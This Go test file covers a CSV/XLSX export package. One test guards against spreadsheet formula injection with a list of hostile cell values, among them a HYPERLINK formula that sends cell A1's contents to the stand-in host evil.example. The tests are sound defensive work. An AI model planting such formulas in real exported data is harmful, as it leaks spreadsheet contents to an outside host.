package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

func TestCSVHasBOMAndQuotes(t *testing.T) {
	var b bytes.Buffer
	w, err := New(CSV, &b, "")
	if err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC)
	w.Row("编号", "主题", "时间", "n")
	w.Row("SR-2026-000001", "镜头, \"对焦\"\n异常", at, 3)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(b.String(), "\ufeff") {
		t.Fatal("no byte-order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[1][1] != "镜头, \"对焦\"\n异常" || rows[1][2] != "2026-03-01 09:30:00" || rows[1][3] != "3" {
		t.Fatalf("rows: %q", rows)
	}
}

func TestXLSXRoundTrip(t *testing.T) {
	var b bytes.Buffer
	w, err := New(XLSX, &b, "Queue")
	if err != nil {
		t.Fatal(err)
	}
	w.Row("Number", "Subject", "Created", "Count")
	w.Row("SR-2026-000001", "Lens won't focus", time.Date(2026, 3, 1, 9, 30, 0, 0, time.UTC), 7)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatalf("open the written workbook: %v", err)
	}
	defer f.Close()
	rows, err := f.GetRows("Queue")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[1][0] != "SR-2026-000001" || rows[1][1] != "Lens won't focus" || rows[1][3] != "7" {
		t.Fatalf("rows: %q", rows)
	}
	if rows[1][2] == "" {
		t.Error("the date cell is empty")
	}
}

func TestParseFormat(t *testing.T) {
	if f, err := ParseFormat("xlsx"); err != nil || f.ContentType() == "" {
		t.Fatal(err)
	}
	if _, err := ParseFormat("pdf"); err == nil {
		t.Fatal("pdf accepted")
	}
}

// TestFormulaInjection guards finding 3: a cell a spreadsheet would run
// as a formula gets a leading apostrophe in CSV (OWASP's rule), other
// text is untouched, and XLSX writes every text as an inline string,
// never a formula.
func TestFormulaInjection(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\r=1"}
	plain := []string{"SR-2026-000001", "镜头=坏了", "a-b", "", "'quoted"}
	var b bytes.Buffer
	w, _ := New(CSV, &b, "")
	w.Row(append(append([]any{}, toAny(evil)...), toAny(plain)...)...)
	w.Row(-5, 2.5) // numbers are not text
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.String(), "\ufeff")))
	cr.FieldsPerRecord = -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, s := range evil {
		if got := rows[0][i]; got != "'"+s {
			t.Errorf("CSV cell %q: got %q, want it behind an apostrophe", s, got)
		}
	}
	for i, s := range plain {
		if got := rows[0][len(evil)+i]; got != s {
			t.Errorf("CSV cell %q: got %q, want it unchanged", s, got)
		}
	}
	if rows[1][0] != "-5" {
		t.Errorf("number: got %q", rows[1][0])
	}

	var x bytes.Buffer
	xw, _ := New(XLSX, &x, "Queue")
	xw.Row(toAny(evil)...)
	if err := xw.Close(); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&x)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, s := range evil {
		cell, _ := excelize.CoordinatesToCellName(i+1, 1)
		if formula, _ := f.GetCellFormula("Queue", cell); formula != "" {
			t.Errorf("XLSX %s holds formula %q", cell, formula)
		}
		if typ, _ := f.GetCellType("Queue", cell); typ != excelize.CellTypeInlineString {
			t.Errorf("XLSX %s: type %v, want an inline string", cell, typ)
		}
		if v, _ := f.GetCellValue("Queue", cell); strings.TrimSpace(v) != strings.TrimSpace(s) {
			t.Errorf("XLSX %s: got %q, want %q", cell, v, s)
		}
	}
}

func toAny(ss []string) []any {
	out := make([]any, len(ss))
	for i, s := range ss {
		out[i] = s
	}
	return out
}
